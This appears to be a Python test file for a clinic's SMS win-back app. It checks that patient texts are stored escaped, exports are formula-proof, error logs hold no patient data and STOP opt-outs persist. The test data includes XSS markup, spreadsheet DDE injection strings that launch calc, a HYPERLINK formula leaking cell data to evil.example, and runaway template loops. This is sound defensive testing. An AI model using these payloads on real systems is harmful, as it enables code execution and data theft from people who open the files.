"""What a stranger texts is data: stored inert through the real signed webhook, formula-proof in the desk's
exports, never in an Error Log, and a STOP survives whatever fails after it was recorded."""

import csv
import html
import io
import json
import random
from contextlib import contextmanager
from datetime import timedelta
from urllib.parse import parse_qs

import responses
from openpyxl import load_workbook

import frappe

from winback_app.compat import set_in_test
from winback_app.engine import templates
from winback_app.engine.untrusted import as_text
from winback_app.replies import answers, effects, handler, routing

from . import factories as f
from .test_dispatch import MESSAGES_URL, WEDNESDAY_NOON, DispatchCase, twilio_settings
from .test_inbox import AGENT, InboxCase

PAYLOAD = "<img src=x onerror=\"document.title='pwned'\">"
FORMULA_OPENERS = ("=", "+", "-", "@", "\t", "\r")
NAMES = {"first_name": "Zebulon", "last_name": "Quixote-Marsh"}


def unknown_number(taken=()) -> str:
	"""A number no test patient has (907) and nobody opted out."""
	from winback_app.engine.phone import normalize

	while True:
		number = normalize(f"(907) 555-01{random.randrange(100):02d}", "US")
		if number not in taken and not frappe.db.exists("Win-Back SMS Opt-Out", number):
			return number


@contextmanager
def replaced(module, name, replacement):
	"""Swap one of OUR functions for the length of a block (never the host's)."""
	original = getattr(module, name)
	setattr(module, name, replacement)
	try:
		yield
	finally:
		setattr(module, name, original)


def error_logs_since(mark) -> list[str]:
	rows = f.error_logs_after(mark, ["method", "error", "reference_name"])
	return [f"{r.method}\n{r.error}\n{r.reference_name or ''}" for r in rows]


class TestStoredInert(InboxCase):
	def test_a_long_name_of_markup_does_not_lose_the_patients_stop(self):
		"""Found in the session-6 walkthrough: a patient whose name is 117 characters of markup (anyone can type a
		name on the host's registration form) got a 500 for every text, STOP included, and nothing was recorded: the
		name was cut to 140 and escaped after, which overflowed the Communication's sender column."""
		p, lapse, _a, number = self.patient_with_lapse()
		name = f"{PAYLOAD}<script>document.title=\"PWNED-NAME2\"</script>Eve {'x' * 30}"
		self.assertLessEqual(len(name), 140)
		frappe.db.set_value("Patient", p, "patient_name", name)
		response, sid = self.text(number, "STOP")
		self.assertEqual(response.status_code, 200)
		self.assertTrue(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), "the STOP holds")
		self.assertEqual(frappe.db.get_value("Win-Back SMS Reply", sid, "patient"), p)
		sender = frappe.db.get_value(
			"Communication",
			{"reference_name": lapse, "sent_or_received": "Received"},
			"sender_full_name",
		)
		self.assertLessEqual(len(sender), 140)
		self.assertNotIn("<", sender)
		self.assertTrue(html.unescape(sender).startswith("<img src=x"), sender)

	def test_markup_through_the_signed_webhook_is_stored_as_text(self):
		p, lapse, _a, number = self.patient_with_lapse()
		response, sid = self.text(number, f"Is this ok? {PAYLOAD}\nsecond line")
		self.assertEqual(response.status_code, 200)
		reply = self.reply_row(sid)
		for field in ("body", "matched", "from_number", "to_number", "answer"):
			self.assertNotIn("<", reply.get(field) or "", field)
		self.assertEqual(html.unescape(reply.body), f"Is this ok? {PAYLOAD}\nsecond line")

		received = frappe.get_doc("Communication", reply.communication)
		self.assertNotIn("<img", received.content)
		self.assertEqual(received.content, f"Is this ok? {html.escape(PAYLOAD, quote=False)}<br>second line")
		self.assertNotIn("<", received.text_content)
		# The whole timeline of the lapse and the patient: nothing of ours holds a tag but <br>.
		comms = frappe.get_all(
			"Communication", {"reference_name": ("in", [lapse, sid])}, pluck="content"
		) + frappe.get_all(
			"Communication",
			{"name": ("in", frappe.get_all("Communication Link", {"link_name": p}, pluck="parent"))},
			pluck="content",
		)
		self.assertTrue(comms)
		for content in comms:
			self.assertNotIn("<", content.replace("<br>", ""))

		# The front desk's ToDo (e-mailed to its assignee) quotes nothing the patient wrote: the reply holds it.
		todo = frappe.get_all(
			"ToDo", {"reference_type": "Win-Back SMS Reply", "reference_name": sid}, pluck="description"
		)
		self.assertEqual(len(todo), 1)
		self.assertNotIn("img", todo[0])
		self.assertIn("needs an answer", todo[0])

	def test_a_stop_with_markup_opts_out_and_stores_the_words_inert(self):
		_p, lapse, _a, number = self.patient_with_lapse()
		response, sid = self.text(number, f"Stop texting me {PAYLOAD}")
		self.assertIn(b"unsubscribed", response.get_data())
		words = frappe.db.get_value("Win-Back SMS Opt-Out", number, "words")
		self.assertNotIn("<", words)
		self.assertEqual(html.unescape(words), f"Stop texting me {PAYLOAD}")
		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "Opted Out")

	def test_long_markup_never_overflows_the_words_column(self):
		_p, _l, _a, number = self.patient_with_lapse()
		self.text(number, "STOP " + "<" * 400)
		words = frappe.db.get_value("Win-Back SMS Opt-Out", number, "words")
		self.assertLessEqual(len(words), 140)
		self.assertTrue(words.startswith("STOP &lt;"))

	def test_an_unreadable_sender_is_stored_inert(self):
		_response, sid = self.text("<b>x</b>", "hello?")
		self.assertNotIn("<", self.reply_row(sid).from_number)

	def test_staff_typed_opt_out_words_are_formula_guarded(self):
		from winback_app.engine.phone import normalize

		number = normalize(f.mobile(), "US")
		doc = frappe.get_doc(
			{"doctype": "Win-Back SMS Opt-Out", "phone": number, "reason": "Opted Out", "source": "Staff"}
		)
		doc.words = "=cmd|' /C calc'!A0"
		doc.insert(ignore_permissions=True)
		self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "words"), "'=cmd|' /C calc'!A0")


def export(doctype: str, fields: list[str], names: list[str], file_format: str) -> bytes:
	"""The desk's Export (list / report view), as the browser calls it."""
	from frappe.desk.reportview import export_query

	frappe.local.form_dict = frappe._dict(
		doctype=doctype,
		file_format_type=file_format,
		fields=json.dumps([f"`tab{doctype}`.`{field}`" for field in fields]),
		filters=json.dumps([[doctype, "name", "in", names]]),
		title=doctype,
	)
	frappe.response.pop("filecontent", None)
	export_query()
	return frappe.response["filecontent"]


def cells(content: bytes, file_format: str) -> list[str]:
	if file_format == "CSV":
		return [c for row in csv.reader(io.StringIO(content.decode())) for c in row]
	sheet = load_workbook(io.BytesIO(content)).active
	out = []
	for row in sheet.iter_rows():
		for cell in row:
			if cell.data_type == "f":
				out.append("FORMULA:" + str(cell.value))
			elif isinstance(cell.value, str):
				out.append(cell.value)
	return out


class TestExports(InboxCase):
	BODIES = (
		'=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
		"+1+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\r=1+1",
		"=STOP",
		"-STOP",
		"@stop",
		"\tSTOP",
	)

	def test_frappe_itself_would_export_a_formula(self):
		# The reason for the guard: frappe 15's XLSX export (openpyxl) writes "=..." as a live formula and its
		# CSV export writes it as is.
		from frappe.utils.xlsxutils import make_xlsx

		self.assertEqual(cells(make_xlsx([["=1+1"]], "Sheet").getvalue(), "Excel"), ["FORMULA:=1+1"])

	def test_replies_and_opt_out_words_never_open_with_a_formula(self):
		sids, numbers, senders = [], [], []
		for body in self.BODIES:
			number = unknown_number(senders)
			senders.append(number)
			_r, sid = self.text(number, body)
			sids.append(sid)
			if frappe.db.exists("Win-Back SMS Opt-Out", number):
				numbers.append(number)
		self.assertGreaterEqual(len(numbers), 3, "some of them were STOPs")
		for file_format in ("CSV", "Excel"):
			values = cells(export("Win-Back SMS Reply", ["body", "matched"], sids, file_format), file_format)
			values += cells(export("Win-Back SMS Opt-Out", ["words"], numbers, file_format), file_format)
			for body in self.BODIES:  # every one is there, as text: an apostrophe in front
				self.assertIn(as_text(body), values, (file_format, values))
				self.assertTrue(as_text(body).startswith("'"))
			for value in values:
				self.assertFalse(value.startswith("FORMULA:"), (file_format, value))
				self.assertFalse(value.startswith(FORMULA_OPENERS), (file_format, value))
				self.assertFalse(value.lstrip().startswith(FORMULA_OPENERS), (file_format, value))


class TestNoPatientDataInLogs(InboxCase):
	def patient_details(self, p: str, number: str) -> list[str]:
		doc = frappe.get_doc("Patient", p)
		return [number, number[2:], doc.first_name, doc.last_name, doc.patient_name, doc.email]

	def test_a_handler_that_raises_while_recording_logs_no_patient_data(self):
		p, _lapse, _a, number = self.patient_with_lapse(**NAMES)
		body = "My secret is Q7-hunter2, call me"
		start = f.error_log_mark()

		def raising(reply):
			# As a duplicate-key or data error would: the exception's text quotes the data it choked on.
			raise frappe.db.InternalError(f"(1062, \"Duplicate entry '{reply.from_number}' {reply.body}\")")

		with replaced(handler, "record_reply", raising):
			response, sid = self.text(number, body)
		# The webhook answered (no exception reached frappe's handler, which would snapshot every frame's
		# locals into an Error Log): Twilio sees the failure, the clinic's debugger shows it.
		self.assertEqual(response.status_code, 500)
		self.assertFalse(frappe.db.exists("Win-Back SMS Reply", sid))
		logs = error_logs_since(start)
		self.assertEqual(len(logs), 1, logs)
		self.assertIn("InternalError", logs[0])
		self.assertIn("record_inbound", logs[0], "the code path is there")
		for secret in [*self.patient_details(p, number), body, "hunter2", sid]:
			self.assertNotIn(secret, logs[0])

	def test_acting_fails_after_a_stop_was_recorded(self):
		"""The STOP and the reply stay; the text goes to a person; the log names the reply only."""
		p, lapse, _a, number = self.patient_with_lapse(**NAMES)
		token = frappe.db.get_value("Patient Lapse", lapse, "booking_token_hash") or ""
		start = f.error_log_mark()

		def raising(name, plan, **_options):
			raise RuntimeError(
				f"lapse {name} of {number}: {frappe.db.get_value('Patient', p, 'patient_name')}"
			)

		with replaced(effects, "apply_to_lapse", raising):
			response, sid = self.text(number, "STOP please")
		self.assertEqual(response.status_code, 200)
		self.assertIn(b"unsubscribed", response.get_data(), "the recorded answer still goes out")
		self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), 1)
		reply = self.reply_row(sid)
		self.assertEqual((reply.intent, reply.needs_person), ("Stop", 1))
		self.assertTrue(frappe.db.exists("Communication", reply.communication))
		# The opt-out itself closed the lapse (it is part of recording); a person gets the reply.
		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "Opted Out")
		routing.assign_waiting_replies()
		self.assertTrue(
			frappe.db.exists(
				"ToDo", {"reference_type": "Win-Back SMS Reply", "reference_name": sid, "allocated_to": AGENT}
			)
		)
		logs = error_logs_since(start)
		self.assertEqual(len(logs), 1, logs)
		self.assertIn(sid, logs[0], "the record's name, so someone can look")
		for secret in [*self.patient_details(p, number), "STOP please", token or "no token"]:
			self.assertNotIn(secret, logs[0])

	def test_a_stop_whose_answer_cannot_be_worked_out_is_still_recorded(self):
		_p, lapse, _a, number = self.patient_with_lapse()

		def raising(key, lapse, understood, **_options):
			raise RuntimeError("settings are broken")

		with replaced(answers, "answer_text", raising):
			response, sid = self.text(number, "STOP")
		self.assertEqual(response.status_code, 200)
		self.assertNotIn(b"<Message>", response.get_data(), "no answer, rather than no record")
		self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), 1)
		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "Opted Out")
		self.assertEqual(self.reply_row(sid).needs_person, 1, "a person sends the confirmation")

	def test_a_question_whose_alert_fails_is_assigned_by_the_safety_net(self):
		_p, lapse, _a, number = self.patient_with_lapse()

		def raising(reply, text, plan=None):
			raise RuntimeError("the short queue is down")

		with replaced(routing, "route_to_person", raising):
			response, sid = self.text(number, "Do you take Delta insurance?")
		self.assertIn(b"will text you back", response.get_data())
		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "In Cadence", "rolled back")
		self.assertFalse(frappe.db.exists("ToDo", {"reference_name": sid}))
		from winback_app.tasks import assign_waiting_replies

		assign_waiting_replies()
		self.assertTrue(frappe.db.exists("ToDo", {"reference_name": sid, "allocated_to": AGENT}))


class TestStopIsCommittedFirst(InboxCase):
	"""The one test that lets the webhook commit, as it does in production: acting fails the way a deadlock
	does (MariaDB rolls the whole transaction back), and the STOP must already be on disk."""

	def test_a_stop_survives_a_rolled_back_transaction_after_it(self):
		number = unknown_number()
		frappe.db.commit()  # this test's starting point (settings, users) is what the server would have

		def deadlock(recorded):
			frappe.db.rollback()  # what MariaDB does to a deadlock victim: everything not committed is gone
			raise frappe.QueryDeadlockError("Deadlock found when trying to get lock")

		sid = None
		try:
			set_in_test(False)  # commit as in production (both frappe lines' test flags)
			with replaced(handler, "act_on", deadlock):
				response, sid = self.text(number, "STOP")
				frappe.db.commit()  # what frappe's request handler does when a POST returns a response
			set_in_test(True)
			self.assertEqual(response.status_code, 200)
			frappe.db.rollback()  # a fresh look at what is on disk
			self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), 1)
			self.assertEqual(frappe.db.get_value("Win-Back SMS Reply", sid, "intent"), "Stop")
			self.assertEqual(frappe.db.get_value("Win-Back SMS Reply", sid, "needs_person"), 1)
		finally:
			set_in_test(True)
			frappe.db.rollback()
			if sid:
				comms = frappe.get_all("Communication", {"reference_name": sid}, pluck="name")
				frappe.db.delete("Communication Link", {"parent": ("in", comms or [""])})
				frappe.db.delete("Communication", {"name": ("in", comms or [""])})
				frappe.db.delete("Win-Back SMS Reply", {"name": sid})
			if number:
				frappe.db.delete("Win-Back SMS Opt-Out", {"name": number})
			frappe.db.delete("Error Log", {"reference_doctype": "Win-Back SMS Reply", "reference_name": sid})
			f.reset_settings()
			frappe.db.commit()


class TestDispatcherLogs(DispatchCase):
	"""The provider raises in the middle of a chunk, its exception quoting the request (as a client library's
	error may): the Error Log names the attempt and the code path, and nothing of the patient's."""

	def test_a_provider_that_raises_mid_chunk_logs_no_patient_data(self):
		twilio_settings()
		people = []
		for i in range(3):
			names = {"first_name": f"Zebulon{'abc'[i]}", "last_name": "Quixote-Marsh"}
			p, _lapse, attempt = self.lapse_due(**names)
			people.append((p, attempt))
		start = f.error_log_mark()
		sent = []

		def provider(request):
			form = {k: v[0] for k, v in parse_qs(request.body).items()}
			sent.append(form)
			if len(sent) == 2:
				raise ValueError(f"provider choked on To={form['To']} Body={form['Body']}")
			return (201, {}, json.dumps({"sid": "SM" + frappe.generate_hash(length=32), "status": "queued"}))

		with responses.RequestsMock() as rsps:
			rsps.add_callback(responses.POST, MESSAGES_URL, callback=provider)
			_result, counts = self.run_once()
		self.assertEqual(len(sent), 3, "the chunk went on after the raise")
		self.assertEqual(counts.get("Unknown"), 1, counts)
		logs = error_logs_since(start)
		self.assertEqual(len(logs), 1, logs)
		self.assertIn("ValueError", logs[0])
		secrets = []
		for p, _attempt in people:
			doc = frappe.get_doc("Patient", p)
			secrets += [doc.first_name, doc.patient_name, doc.email, doc.mobile]
		for form in sent:
			token = form["Body"].rsplit("/book/", 1)[-1].split()[0]
			secrets += [form["To"], form["To"][2:], form["Body"], token]
		for secret in secrets:
			self.assertNotIn(secret, logs[0])


class TestTemplateBounds(DispatchCase):
	"""A manager's template cannot hang a worker: refused when the campaign is saved, skipped at send when
	only a real patient's values make it run away."""

	def save(self, template: str):
		name = f"T Bounds {frappe.generate_hash(length=6)}"
		touch = {"day_offset": 1, "channel": "SMS", "template": template}
		return f.segment(name, "Recall Window", min_days=180, max_days=270, touches=[touch])

	def test_a_looping_or_oversized_text_is_refused_on_save(self):
		for template, words in (
			("{% for i in range(10**9) %}{{ booking_link }}{% endfor %}", "repeats more than 10,000 times"),
			(
				"{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}{{ booking_link }}",
				"repeats more than 10,000 times",
			),
			("{{ booking_link }} {{ 'Come back! ' * 200 }}", "longer than 1,600 characters"),
		):
			with self.assertRaises(frappe.ValidationError) as caught:
				self.save(template)
			self.assertIn(words, str(caught.exception))

	def test_a_template_that_runs_away_for_one_patient_is_not_sent_and_says_why(self):
		# "Alex" (the sample) loops 8,000 times and saves; a longer real name passes the loop budget.
		template = (
			"{% for i in range(first_name|length * 2000) %}{% endfor %}Hi {{ first_name }} {{ booking_link }}"
		)
		f.only_these_segments_enabled()
		patients = [f.patient(first_name="Maximiliana"), f.patient(first_name="Bartholomew")]
		for p in patients:
			f.past_appointment(p, 200)
		self.save(template)
		from winback_app.detection.run import detect_lapses

		detect_lapses()
		attempts = []
		for p in patients:
			[lapse] = f.lapses_of(p)
			attempts.append(frappe.db.get_value("Win-Back Contact Attempt", {"lapse": lapse.name}, "name"))
		frappe.db.set_value("Win-Back Contact Attempt", {"name": ("in", attempts)}, "due_at", WEDNESDAY_NOON)
		renders = []

		def counted(template, context, *args, **kwargs):
			renders.append(context["first_name"])
			return render(template, context, *args, **kwargs)

		start = f.error_log_mark()
		render = templates.render
		with replaced(templates, "render", counted):
			_result, counts = self.run_once(now=WEDNESDAY_NOON + timedelta(minutes=1))
		self.assertEqual(counts, {"Skipped": 2})
		self.assertEqual(len(renders), 1, "the touch that broke a bound is not rendered again in the chunk")
		for attempt in attempts:
			row = frappe.db.get_value(
				"Win-Back Contact Attempt",
				attempt,
				["status", "skip_reason", "error_message", "communication"],
				as_dict=True,
			)
			self.assertEqual(row.status, "Skipped", row)
			self.assertFalse(row.communication, "nothing was sent, not even to the Outbox")
			self.assertIn("repeats more than 10,000 times", row.skip_reason)
			self.assertNotIn("Maximiliana", row.skip_reason)
		self.assertEqual(error_logs_since(start), [], "the reason is on the attempts: no Error Log per attempt")


class TestWebhookFailureOverHttp(InboxCase):
	"""Through the real server (gunicorn, frappe.app): a text whose recording fails gets our empty 500, not
	frappe's error handler, which would have snapshotted every frame's locals (the form) into an Error Log."""

	def tearDown(self):
		frappe.db.rollback()
		frappe.db.delete(
			"Error Log", {"method": ("like", "Win-back: an inbound text could not be recorded%")}
		)
		f.reset_settings()
		frappe.db.commit()
		super().tearDown()

	def test_a_failing_text_is_answered_by_the_app_and_logged_without_the_form(self):
		from urllib.error import HTTPError
		from urllib.parse import urlencode
		from urllib.request import Request, urlopen

		from twilio.request_validator import RequestValidator

		from . import browser
		from .test_dispatch import TWILIO_TOKEN

		number, body = unknown_number(), "My secret is Q7-hunter2 <b>call me</b>"
		# Twilio's ids are 34 characters; this one overflows the reply's name column: a real error mid-way,
		# after the sender was looked up and the text understood.
		params = {"MessageSid": "SM" + "9" * 200, "From": number, "To": "+12025550100", "Body": body}
		path = "/api/method/winback_app.api.sms.inbound"
		signature = RequestValidator(TWILIO_TOKEN).compute_signature(
			f"https://clinic.example.com{path}", params
		)
		frappe.db.commit()  # the server is another process: it must see the settings
		start = f.error_log_mark()
		with browser.served_site() as base:
			request = Request(
				f"{base}{path}",
				data=urlencode(params).encode(),
				headers={"X-Twilio-Signature": signature, "X-Frappe-Site-Name": frappe.local.site},
			)
			try:
				urlopen(request, timeout=60)
				status, answer, kind = 200, b"", ""
			except HTTPError as error:
				status, answer, kind = error.code, error.read(), error.headers.get("Content-Type", "")
		self.assertEqual(status, 500)
		self.assertEqual(answer, b"", "our empty answer, not frappe's JSON error with the exception in it")
		self.assertTrue(kind.startswith("text/plain"), kind)
		frappe.db.rollback()
		logs = error_logs_since(start)
		self.assertEqual(len(logs), 1, logs)
		self.assertIn("DataError", logs[0])
		for secret in (number, number[2:], body, "hunter2", "9" * 40):
			self.assertNotIn(secret, logs[0])
		self.assertFalse(frappe.db.exists("Win-Back SMS Reply", {"from_number": number}))
